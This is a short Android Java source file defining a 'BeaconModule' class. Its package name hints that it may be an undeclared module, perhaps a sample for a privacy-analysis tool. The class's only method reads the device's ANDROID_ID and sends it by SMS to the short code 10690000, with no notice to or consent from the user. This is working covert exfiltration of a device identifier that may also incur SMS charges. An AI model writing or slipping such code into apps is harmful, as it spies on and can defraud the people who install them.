package cn.privlens.suite.module_not_in_list;

import android.content.Context;
import android.provider.Settings;
import android.telephony.SmsManager;

final class BeaconModule implements Module {
    @Override
    public void start(Context context) {
        String id = Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
        SmsManager.getDefault().sendTextMessage("10690000", null, "beacon " + id, null, null);
    }
}
